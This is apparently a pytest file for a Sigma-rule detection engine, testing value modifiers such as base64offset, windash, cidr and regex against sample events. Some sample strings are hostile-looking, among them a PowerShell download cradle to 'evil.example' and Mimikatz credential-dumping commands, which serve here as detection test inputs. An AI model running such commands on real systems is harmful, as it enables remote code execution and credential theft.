"""Value modifiers and wildcards, from the Sigma specification (appendix: modifiers), each with
positive and negative cases. Expected values are computed independently (base64, UTF-16)."""

from __future__ import annotations

import base64

import pytest

from tests.engine.sigma.matching import matches
from tests.engine.sigma.ruletext import compile_one, fires, sysmon_event
from vigil.engine.ir import CidrMatch, KeywordMatch, RegexMatch, StrMatch
from vigil.engine.sigma import CompileOptions, load_sigma_text


def test_plain_value_is_case_insensitive_equality() -> None:
    rule = compile_one("sel:\n    Image: 'C:\\Windows\\System32\\cmd.exe'\ncondition: sel")
    assert fires(rule, Image="c:\\windows\\system32\\CMD.EXE")
    assert not fires(rule, Image="C:\\Windows\\System32\\cmd.exe.bak")
    assert not fires(rule)  # missing field


def test_contains_startswith_endswith() -> None:
    rule = compile_one("sel:\n    CommandLine|contains: whoami\ncondition: sel")
    assert fires(rule, CommandLine="cmd /c WhoAmI /all")
    assert not fires(rule, CommandLine="who ami")
    rule = compile_one("sel:\n    Image|startswith: 'C:\\Users\\'\ncondition: sel")
    assert fires(rule, Image="c:\\users\\bob\\a.exe")
    assert not fires(rule, Image="D:\\C:\\Users\\a.exe")
    rule = compile_one("sel:\n    Image|endswith: '\\rundll32.exe'\ncondition: sel")
    assert fires(rule, Image="C:\\Windows\\System32\\RUNDLL32.exe")
    assert not fires(rule, Image="C:\\rundll32.exe.tmp")


def test_value_list_is_or_and_all_makes_it_and() -> None:
    rule = compile_one(
        "sel:\n    CommandLine|contains:\n        - ' -enc '\n        - ' -e '\ncondition: sel"
    )
    assert fires(rule, CommandLine="powershell -e AAAA")
    assert not fires(rule, CommandLine="powershell -command x")
    rule = compile_one(
        "sel:\n    CommandLine|contains|all:\n        - 'net'\n        - ' user '\n        - '/add'\n"
        "condition: sel"
    )
    assert fires(rule, CommandLine="NET USER bob pw /ADD")
    assert not fires(rule, CommandLine="net user bob")
    assert not fires(rule, CommandLine="net localgroup admins /add")


def test_wildcards_multi_and_single() -> None:
    rule = compile_one("sel:\n    Image: " + r"'C:\Windows\\*\cm?.exe'" + "\ncondition: sel")
    assert fires(rule, Image="C:\\Windows\\System32\\cmd.exe")
    assert fires(rule, Image="C:\\Windows\\a\\b\\CMX.exe")
    assert not fires(rule, Image="C:\\Windows\\System32\\cmdd.exe")
    assert not fires(rule, Image="D:\\Windows\\System32\\cmd.exe")
    # '*' also spans newlines (command lines can hold them).
    rule = compile_one("sel:\n    CommandLine: 'a*b'\ncondition: sel")
    assert fires(rule, CommandLine="a\nxx\nb")
    assert not fires(rule, CommandLine="a\nxx\nbc")


def test_escaped_wildcards_are_literal() -> None:
    rule = compile_one("sel:\n    CommandLine: 'what\\*'\ncondition: sel")
    assert fires(rule, CommandLine="WHAT*")
    assert not fires(rule, CommandLine="whatever")
    rule = compile_one("sel:\n    CommandLine|contains: 'a\\?b'\ncondition: sel")
    assert fires(rule, CommandLine="x a?b y")
    assert not fires(rule, CommandLine="x acb y")
    # An escaped backslash followed by a wildcard: literal backslash, then any run.
    rule = compile_one("sel:\n    Image: 'C:\\\\*'\ncondition: sel")
    assert fires(rule, Image="C:\\tools\\x.exe")
    assert not fires(rule, Image="C:tools")
    # A backslash before an ordinary character stays a backslash.
    rule = compile_one("sel:\n    Image: 'C:\\Windows\\x.exe'\ncondition: sel")
    assert fires(rule, Image="C:\\Windows\\x.exe")


def test_regex_modifier_and_flags() -> None:
    rule = compile_one("sel:\n    CommandLine|re: '^a.c$'\ncondition: sel")
    assert fires(rule, CommandLine="abc")
    assert not fires(rule, CommandLine="ABC")  # case-sensitive by default
    assert not fires(rule, CommandLine="xabc")
    rule = compile_one("sel:\n    CommandLine|re|i: '^a.c$'\ncondition: sel")
    assert fires(rule, CommandLine="AbC")
    rule = compile_one("sel:\n    CommandLine|re|m: '^b$'\ncondition: sel")
    assert fires(rule, CommandLine="a\nb\nc")
    rule = compile_one("sel:\n    CommandLine|re: '^b$'\ncondition: sel")
    assert not fires(rule, CommandLine="a\nb\nc")
    rule = compile_one("sel:\n    CommandLine|re|s: 'a.b'\ncondition: sel")
    assert fires(rule, CommandLine="a\nb")
    rule = compile_one("sel:\n    CommandLine|re: 'a.b'\ncondition: sel")
    assert not fires(rule, CommandLine="a\nb")
    # Unanchored search.
    rule = compile_one("sel:\n    CommandLine|re: 'b+c'\ncondition: sel")
    assert fires(rule, CommandLine="abbbcd")


def test_base64() -> None:
    encoded = base64.b64encode(b"whoami").decode()
    rule = compile_one("sel:\n    CommandLine|base64: 'whoami'\ncondition: sel")
    assert fires(rule, CommandLine=encoded)
    assert not fires(rule, CommandLine="whoami")
    rule = compile_one("sel:\n    CommandLine|base64|contains: 'whoami'\ncondition: sel")
    assert fires(rule, CommandLine=f"powershell -e {encoded}")


@pytest.mark.parametrize("prefix", [b"", b"x", b"xy", b"IEX ((new-object net.webclient).downloadstring('"])
def test_base64offset_finds_the_value_at_every_offset(prefix: bytes) -> None:
    rule = compile_one("sel:\n    CommandLine|base64offset|contains: 'http://'\ncondition: sel")
    blob = base64.b64encode(prefix + b"http://evil.example/x").decode()
    assert fires(rule, CommandLine=f"powershell -enc {blob}")
    other = base64.b64encode(prefix + b"htp://evil.example/x").decode()
    assert not fires(rule, CommandLine=f"powershell -enc {other}")


@pytest.mark.parametrize("prefix", ["", "a", "ab"])
def test_wide_base64offset(prefix: str) -> None:
    rule = compile_one("sel:\n    CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel")
    blob = base64.b64encode((prefix + "Invoke-Mimikatz -DumpCreds").encode("utf-16le")).decode()
    assert fires(rule, CommandLine=blob)
    utf8_blob = base64.b64encode((prefix + "Invoke-Mimikatz -DumpCreds").encode()).decode()
    assert not fires(rule, CommandLine=utf8_blob)


def test_utf16_encodings() -> None:
    rule = compile_one("sel:\n    CommandLine|utf16le|base64: 'cmd'\ncondition: sel")
    assert fires(rule, CommandLine=base64.b64encode("cmd".encode("utf-16le")).decode())
    assert not fires(rule, CommandLine=base64.b64encode(b"cmd").decode())
    rule = compile_one("sel:\n    CommandLine|utf16be|base64: 'cmd'\ncondition: sel")
    assert fires(rule, CommandLine=base64.b64encode("cmd".encode("utf-16be")).decode())
    assert not fires(rule, CommandLine=base64.b64encode("cmd".encode("utf-16le")).decode())
    rule = compile_one("sel:\n    CommandLine|utf16|base64: 'cmd'\ncondition: sel")
    assert fires(rule, CommandLine=base64.b64encode(b"\xff\xfe" + "cmd".encode("utf-16le")).decode())
    assert not fires(rule, CommandLine=base64.b64encode("cmd".encode("utf-16le")).decode())


def test_windash() -> None:
    rule = compile_one("sel:\n    CommandLine|windash|contains: ' -exec bypass'\ncondition: sel")
    for dash in ("-", "/", "\u2013", "\u2014", "\u2015"):
        assert fires(rule, CommandLine=f"powershell {dash}exec bypass"), dash
    assert not fires(rule, CommandLine="powershell exec bypass")
    assert not fires(rule, CommandLine="powershell +exec bypass")


def test_windash_with_all() -> None:
    rule = compile_one(
        "sel:\n    CommandLine|windash|contains|all:\n        - ' -a '\n        - ' -b '\ncondition: sel"
    )
    assert fires(rule, CommandLine="x /a -b y")
    assert fires(rule, CommandLine="x /b /a y")
    assert not fires(rule, CommandLine="x /a y")


def test_cidr_ipv4_and_ipv6() -> None:
    rule = compile_one(
        "sel:\n    DestinationIp|cidr:\n        - '10.0.0.0/8'\n        - 'fe80::/10'\n        - '::1/128'\n"
        "condition: sel",
        "product: windows\n    category: network_connection",
    )

    def net(ip: str) -> bool:
        return matches(rule, sysmon_event(3, DestinationIp=ip))

    assert net("10.200.3.4")
    assert net("fe80::1c2:3ff:fe44:5566")
    assert net("::1")
    assert not net("11.0.0.1")
    assert not net("2001:db8::1")
    assert not net("::2")
    assert not net("not an ip")
    assert any(isinstance(n, CidrMatch) for n in getattr(rule.condition, "children", (rule.condition,)))


def test_numeric_comparisons() -> None:
    ls = "product: windows\n    category: network_connection"
    cases = {
        "lt": {"80": True, "1024": False, "8080": False},
        "lte": {"1024": True, "1025": False},
        "gt": {"8080": True, "1024": False},
        "gte": {"1024": True, "1023": False},
    }
    for mod, expectations in cases.items():
        rule = compile_one(f"sel:\n    DestinationPort|{mod}: 1024\ncondition: sel", ls)
        for value, expected in expectations.items():
            assert matches(rule, sysmon_event(3, DestinationPort=value)) is expected, (mod, value)
        assert not matches(rule, sysmon_event(3, DestinationPort="http"))
        assert not matches(rule, sysmon_event(3))


def test_numbers_compare_as_strings_for_equality() -> None:
    rule = compile_one("sel:\n    ParentProcessId: 4\ncondition: sel")
    assert fires(rule, ParentProcessId="4")
    assert not fires(rule, ParentProcessId="44")


def test_exists() -> None:
    rule = compile_one("sel:\n    ParentImage|exists: true\ncondition: sel")
    assert fires(rule, ParentImage="")
    assert not fires(rule, Image="x")
    rule = compile_one("sel:\n    ParentImage|exists: false\ncondition: sel")
    assert fires(rule, Image="x")
    assert not fires(rule, ParentImage="x")


def test_null_and_empty_string() -> None:
    rule = compile_one("sel:\n    CommandLine: null\ncondition: sel")
    assert fires(rule)
    assert fires(rule, CommandLine=None)
    assert fires(rule, CommandLine="")
    assert not fires(rule, CommandLine="x")
    rule = compile_one("sel:\n    CommandLine: ''\ncondition: sel")
    assert fires(rule, CommandLine="")
    assert not fires(rule, CommandLine="x")
    assert not fires(rule)


def test_cased() -> None:
    rule = compile_one("sel:\n    CommandLine|cased: 'Whoami'\ncondition: sel")
    assert fires(rule, CommandLine="Whoami")
    assert not fires(rule, CommandLine="whoami")
    rule = compile_one("sel:\n    CommandLine|contains|cased: 'Mimi'\ncondition: sel")
    assert fires(rule, CommandLine="Invoke-Mimikatz")
    assert not fires(rule, CommandLine="invoke-mimikatz")


def test_fieldref() -> None:
    rule = compile_one("sel:\n    ParentImage|fieldref: Image\ncondition: sel")
    assert fires(rule, Image="C:\\a.exe", ParentImage="c:\\A.exe")
    assert not fires(rule, Image="C:\\a.exe", ParentImage="C:\\b.exe")
    assert not fires(rule, Image="C:\\a.exe")
    rule = compile_one("sel:\n    CommandLine|fieldref|contains: OriginalFileName\ncondition: sel")
    assert fires(rule, CommandLine="x psexec.exe y", OriginalFileName="psexec.exe")
    assert not fires(rule, CommandLine="x y", OriginalFileName="psexec.exe")


def test_expand_with_placeholders_from_config() -> None:
    opts = CompileOptions(placeholders={"Admins": ["Administrator", "root"]})
    rule = compile_one("sel:\n    User|expand: '%Admins%'\ncondition: sel", opts=opts)
    assert fires(rule, User="administrator")
    assert fires(rule, User="root")
    assert not fires(rule, User="bob")
    rule = compile_one(
        "sel:\n    Image|expand|endswith: '\\%Tool%.exe'\ncondition: sel",
        opts=CompileOptions({"Tool": ["psexec"]}),
    )
    assert fires(rule, Image="C:\\x\\PsExec.exe")
    assert not fires(rule, Image="C:\\x\\psexec.dll")


def test_expand_without_a_value_is_rejected_with_the_placeholder_name() -> None:
    text = (
        "title: T\nid: 5f0c3cb8-7c3c-4a53-9c1f-000000000009\nlogsource:\n    product: windows\n"
        "    category: process_creation\ndetection:\n    sel:\n        User|expand: '%Admins%'\n"
        "    condition: sel\n"
    )
    result = load_sigma_text(text, "t.yml")
    (rejection,) = result.rejections
    assert rejection.kind == "construct"
    assert "%Admins%" in rejection.reason and rejection.title == "T"


def test_neq() -> None:
    rule = compile_one("sel:\n    Image|endswith: '.exe'\n    User|neq: 'SYSTEM'\ncondition: sel")
    assert fires(rule, Image="a.exe", User="bob")
    assert not fires(rule, Image="a.exe", User="system")


def test_bool_values() -> None:
    rule = compile_one(
        "sel:\n    Signed: false\ncondition: sel", "product: windows\n    category: image_load"
    )
    assert matches(rule, sysmon_event(7, Signed="false"))
    assert not matches(rule, sysmon_event(7, Signed="true"))


def test_keywords_search_every_string_of_the_event() -> None:
    rule = compile_one(
        "keywords:\n    - 'sekurlsa'\n    - 'kerberos::*ticket'\ncondition: keywords", "product: windows"
    )
    # Both keywords are searched in one walk of the event's strings (one RE2 alternation).
    assert isinstance(rule.condition, KeywordMatch) and rule.condition.op == "regex"
    assert fires(rule, CommandLine="mimikatz SEKURLSA::logonpasswords")
    assert fires(rule, Payload="x kerberos::golden /ticket:y")
    assert matches(rule, {"Event": {"System": {"Computer": "sekurlsa-host"}}})
    assert not fires(rule, CommandLine="kerberos::list")
    assert not fires(rule, CommandLine="mimikatz")


def test_eventid_rendered_with_qualifiers() -> None:
    rule = compile_one(
        "sel:\n    EventID: 7045\n    ServiceName: evil\ncondition: sel",
        "product: windows\n    service: system",
    )
    event = {
        "Event": {
            "System": {"Channel": "System", "EventID": {"Qualifiers": "16384", "Value": "7045"}},
            "EventData": {"ServiceName": "evil"},
        }
    }
    assert matches(rule, event)
    event["Event"]["System"]["EventID"] = {"Qualifiers": "16384", "Value": "7036"}
    assert not matches(rule, event)


def test_simple_strings_use_string_tests_and_patterns_use_re2() -> None:
    rule = compile_one("sel:\n    Image|endswith: '\\a.exe'\ncondition: sel")
    assert rule.condition == StrMatch(
        ("Event", "EventData", "Image"), "endswith", "\\a.exe", ignore_case=True
    )
    rule = compile_one("sel:\n    Image: " + r"'C:\\*\a?.exe'" + "\ncondition: sel")
    assert rule.condition == RegexMatch(("Event", "EventData", "Image"), r"(?is)^C:\\.*\\a.\.exe$")


def test_regex_outside_re2_is_rejected_with_the_reason() -> None:
    text = (
        "title: Lookbehind\nid: 5f0c3cb8-7c3c-4a53-9c1f-00000000000a\nlogsource:\n    product: windows\n"
        "    category: process_creation\ndetection:\n    sel:\n        CommandLine|re: '(?<=a)b'\n"
        "    condition: sel\n"
    )
    (rejection,) = load_sigma_text(text, "t.yml").rejections
    assert rejection.kind == "construct" and "RE2" in rejection.reason and "(?<=a)b" in rejection.reason


def test_time_part_modifiers_are_rejected_not_dropped() -> None:
    text = (
        "title: Night\nid: 5f0c3cb8-7c3c-4a53-9c1f-00000000000b\nlogsource:\n    product: windows\n"
        "    category: process_creation\ndetection:\n    sel:\n        UtcTime|hour: 3\n    condition: sel\n"
    )
    result = load_sigma_text(text, "t.yml")
    assert not result.rules
    (rejection,) = result.rejections
    assert rejection.kind == "construct" and "hour" in rejection.reason
